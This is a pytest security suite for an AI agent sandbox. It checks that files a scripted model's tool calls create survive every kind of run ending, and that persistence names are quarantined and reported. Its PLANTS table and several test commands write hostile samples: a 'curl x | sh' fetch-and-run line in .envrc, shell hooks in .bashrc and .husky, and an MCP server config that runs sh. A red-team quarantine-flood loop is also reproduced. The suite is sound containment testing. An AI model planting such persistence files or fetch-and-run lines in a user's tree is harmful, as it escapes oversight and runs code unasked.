"""Nothing in the user's tree, ever (issue 14 §1), with real ``pi --sandbox`` runs.

After every way a run can end (normal exit, SIGINT, SIGTERM, SIGKILL of the
supervisor, a crashed tool worker) ``ls -A`` of the workspace is exactly what the
user and the model made; inside, the model's listing is the host's; a protected
name a tool creates is quarantined and reported (audit, notice, JSON event);
concurrent runs in the same and in nested workspaces neither see nor disturb each
other. Every wait is on a condition (a file the scripted model made, a process
exit), with a generous deadline, never a guessed sleep.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import time
from pathlib import Path

import pytest
from pi_runs import bash_script, pi_env, run_pi, scripted_argv, tool_texts
from pi_runs import json_events as events

pytestmark = [pytest.mark.security, pytest.mark.usefixtures("require_bwrap")]

DEADLINE_S = 90.0


def script_for(directory: Path, *commands: str) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    return bash_script(directory / "script.yaml", commands)


def pi_argv(workspace: Path, script: Path, *flags: str) -> list[str]:
    return scripted_argv(script, workspace, "--sandbox", "--mode", "json", "--no-session", *flags)


def listing(path: Path) -> list[str]:
    return sorted(os.listdir(path))


def wait_for(condition, what: str) -> None:
    deadline = time.monotonic() + DEADLINE_S
    while not condition():
        assert time.monotonic() < deadline, f"timed out waiting for {what}"
        time.sleep(0.02)


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    path = Path(os.path.realpath(tmp_path)) / "ws"
    (path / "src").mkdir(parents=True)
    (path / "README.md").write_text("# project\n")
    (path / "src" / "app.py").write_text("print('hi')\n")
    return path


def test_the_models_listing_is_the_hosts_and_a_normal_exit_leaves_only_its_files(
    tmp_path, workspace
):
    before = listing(workspace)
    result = run_pi(
        pi_argv(workspace, script_for(tmp_path / "s", "ls -A", "echo x > made.txt")),
        env=pi_env(tmp_path),
        timeout=DEADLINE_S,
    )
    assert result.returncode == 0, result.stderr
    assert tool_texts(result.stdout)[0].split() == before  # no entry the repo lacks
    assert listing(workspace) == sorted([*before, "made.txt"])
    assert listing(workspace / "src") == ["app.py"]


@pytest.mark.parametrize("how", ["SIGINT", "SIGTERM", "SIGKILL", "SIGHUP+SIGTERM"])
def test_a_signalled_supervisor_leaves_only_what_the_model_made(tmp_path, workspace, how):
    before = listing(workspace)
    audit = tmp_path / "audit.jsonl"
    # The call plants .envrc, waits (bounded) until the guard has taken it, then
    # marks that it is running: the signal comes with the sandbox alive.
    command = (
        "touch .envrc; for i in $(seq 6000); do [ -e .envrc ] || break; sleep 0.01; done;"
        " touch started; sleep 600"
    )
    proc = subprocess.Popen(
        pi_argv(workspace, script_for(tmp_path / "s", command), "--audit-log", str(audit)),
        env=pi_env(tmp_path),
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        wait_for(lambda: (workspace / "started").exists(), "the sandboxed call to start")
        if how.startswith("SIGHUP"):
            # A policy reload mid-call, then the end of the run.
            proc.send_signal(signal.SIGHUP)
            wait_for(lambda: '"reloaded"' in audit.read_text(), "the policy reload")
            how = how.split("+")[1]
        proc.send_signal(getattr(signal, how))
        try:
            proc.wait(timeout=DEADLINE_S)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait()
            pytest.fail(f"pi did not end after {how}")
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    assert listing(workspace) == sorted([*before, "started"])


def test_a_crashed_tool_worker_leaves_only_what_the_model_made(tmp_path, workspace):
    before = listing(workspace)
    result = run_pi(
        pi_argv(
            workspace,
            script_for(tmp_path / "s", "touch one; kill -9 $PPID", "touch two; ls -A"),
        ),
        env=pi_env(tmp_path),
        timeout=DEADLINE_S,
    )
    assert result.returncode == 0, result.stderr
    assert listing(workspace) == sorted([*before, "one", "two"])
    assert tool_texts(result.stdout)[-1].split() == sorted([*before, "one", "two"])


PLANTS = {
    ".envrc": "echo 'curl x | sh' > .envrc",
    ".mcp.json": 'echo \'{"mcpServers": {"x": {"command": "sh"}}}\' > .mcp.json',
    ".pi": "mkdir -p .pi/extensions && echo 'x = 1' > .pi/extensions/helper.py",
    "pkg/app/.pi": "mkdir -p pkg/app/.pi/extensions && echo 'x=1' > pkg/app/.pi/extensions/h.py",
    ".vscode": "mkdir -p .vscode && echo '{}' > .vscode/tasks.json",
    "src/.vscode": "mkdir -p src/.vscode && echo '{}' > src/.vscode/tasks.json",
    ".github": "mkdir -p .github/workflows && echo 'on: push' > .github/workflows/x.yml",
    ".git": "git init -q .",
    "src/.git": "git init -q src",
    ".claude": "mkdir .claude && echo '{}' > .claude/settings.json",
    ".bashrc": "echo 'touch PWNED' > .bashrc",
    ".husky": "mkdir -p .husky && echo 'touch PWNED' > .husky/pre-commit",
    ".devcontainer": "mkdir .devcontainer && echo '{}' > .devcontainer/devcontainer.json",
    ".pre-commit-config.yaml": "echo 'repos: []' > .pre-commit-config.yaml",
}


def test_every_planted_persistence_name_is_quarantined_and_reported(tmp_path, workspace):
    before = listing(workspace)
    audit = tmp_path / "audit.jsonl"
    result = run_pi(
        pi_argv(
            workspace,
            script_for(tmp_path / "s", "; ".join(PLANTS.values()) + "; touch ordinary.txt"),
            "--audit-log",
            str(audit),
        ),
        env=pi_env(tmp_path),
        timeout=DEADLINE_S,
    )
    assert result.returncode == 0, result.stderr
    planted = {str(workspace / rel) for rel in PLANTS}
    for rel in PLANTS:
        assert not os.path.lexists(workspace / rel), rel
    # reported three ways: JSON event, notice on stderr-equivalent text, audit record
    reported = {
        e["quarantine"]["path"]
        for e in events(result.stdout)
        if e["type"] == "pisandbox_warning" and "quarantine" in e
    }
    assert reported == planted
    records = [json.loads(line) for line in audit.read_text().splitlines()]
    assert {r["path"] for r in records if r["event"] == "quarantine"} == planted
    moved = [r["moved_to"] for r in records if r["event"] == "quarantine"]
    assert all(m and os.path.lexists(m) and str(tmp_path / "agent") in m for m in moved)
    assert listing(workspace) == sorted([*before, "ordinary.txt", "pkg"])
    assert listing(workspace / "pkg" / "app") == []
    # nothing planted runs: git finds no repository here, no sentinel appears
    status = subprocess.run(["git", "status"], cwd=workspace, capture_output=True, check=False)
    assert status.returncode != 0
    assert not list(workspace.rglob("PWNED"))


def test_a_protected_name_is_quarantined_while_the_call_that_made_it_still_runs(
    tmp_path, workspace
):
    # The window is one inotify-driven check, not the rest of the call: the same
    # command sees its .envrc vanish (bounded loop, 60 s, never a guessed sleep).
    result = run_pi(
        pi_argv(
            workspace,
            script_for(
                tmp_path / "s",
                "echo 'curl x | sh' > .envrc; for i in $(seq 6000); do"
                " [ -e .envrc ] || { echo gone-during-the-call; break; }; sleep 0.01; done",
            ),
        ),
        env=pi_env(tmp_path),
        timeout=DEADLINE_S,
    )
    assert result.returncode == 0, result.stderr
    assert "gone-during-the-call" in tool_texts(result.stdout)[0]
    kinds = [
        "quarantine" if "quarantine" in e else e["type"]
        for e in events(result.stdout)
        if e["type"] in ("pisandbox_warning", "tool_execution_end")
    ]
    assert kinds == ["quarantine", "tool_execution_end"]  # reported before the call ended


def test_a_plain_run_prints_the_quarantine_notice(tmp_path, workspace):
    result = run_pi(
        [
            arg if arg != "json" else "text"
            for arg in pi_argv(workspace, script_for(tmp_path / "s", "touch .envrc"))
        ],
        env=pi_env(tmp_path),
        timeout=DEADLINE_S,
    )
    assert result.returncode == 0, result.stderr
    assert f"a sandboxed tool created {workspace / '.envrc'}" in result.stderr + result.stdout
    assert not (workspace / ".envrc").exists()


@pytest.mark.parametrize("nested", [False, True], ids=["same workspace", "nested workspace"])
def test_concurrent_runs_neither_see_nor_disturb_each_other(tmp_path, workspace, nested):
    inner = workspace / "src" if nested else workspace
    done = inner / "b-done"
    before, before_inner = listing(workspace), listing(inner)
    # A waits inside its sandbox until B has listed and finished its call: the two
    # sandboxes overlap for certain, without a guessed sleep.
    first = subprocess.Popen(
        pi_argv(
            workspace,
            script_for(
                tmp_path / "a",
                "touch a-started; "
                f"for i in $(seq 6000); do [ -e {done} ] && break; sleep 0.01; done; ls -A",
            ),
        ),
        env=pi_env(tmp_path),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        wait_for(lambda: (workspace / "a-started").exists(), "run A's call to start")
        second = run_pi(
            pi_argv(inner, script_for(tmp_path / "b", "ls -A", "touch b-done")),
            env=pi_env(tmp_path),
            timeout=DEADLINE_S,
        )
        out, err = first.communicate(timeout=DEADLINE_S)
    finally:
        if first.poll() is None:
            first.kill()
            first.wait()
    assert second.returncode == 0, second.stderr
    assert first.returncode == 0, err
    # B saw the real tree (A's file included, no mount points of A's)
    expected_b = before_inner if nested else sorted([*before_inner, "a-started"])
    assert tool_texts(second.stdout)[0].split() == expected_b
    # A, after B ended, still sees the real tree: B left nothing and removed nothing
    expected_a = sorted([*before, "a-started", *([] if nested else ["b-done"])])
    assert tool_texts(out)[-1].split() == expected_a
    for result_stdout in (out, second.stdout):
        assert not [e for e in events(result_stdout) if e["type"] == "pisandbox_warning"]
    assert listing(workspace) == expected_a
    if nested:
        assert listing(inner) == sorted([*before_inner, "b-done"])


def test_a_quarantine_flood_stops_the_tools_and_ends_the_run_with_an_error(tmp_path, workspace):
    # Red-team F8: a loop re-creating .envrc made 2,305 quarantine entries and as
    # many warnings in 60 s. Now the cap ends the run (exit 1, one clear error),
    # the loop dies with the sandbox, and repeats are reported once.
    from pi_sandbox.supervisor.workers.worker_pool import QUARANTINE_CAP

    audit = tmp_path / "audit.jsonl"
    started = time.monotonic()
    result = subprocess.run(
        pi_argv(
            workspace,
            script_for(
                tmp_path / "s",
                "for i in $(seq 200000); do echo x > .envrc 2>/dev/null; done; echo finished",
            ),
            "--audit-log",
            str(audit),
        ),
        env=pi_env(tmp_path),
        capture_output=True,
        text=True,
        timeout=DEADLINE_S,
    )
    assert result.returncode == 1, result.stderr
    assert "quarantine flood" in result.stderr
    assert time.monotonic() - started < DEADLINE_S
    warnings = [e for e in events(result.stdout) if "quarantine" in e]
    assert len(warnings) == 1  # identical findings coalesced
    records = [json.loads(line) for line in audit.read_text().splitlines()]
    moved = [r for r in records if r["event"] == "quarantine"]
    assert QUARANTINE_CAP <= len(moved) < 2 * QUARANTINE_CAP
    assert "finished" not in "".join(tool_texts(result.stdout))
    assert not (workspace / ".envrc").exists()
    assert listing(workspace) == ["README.md", "src"]
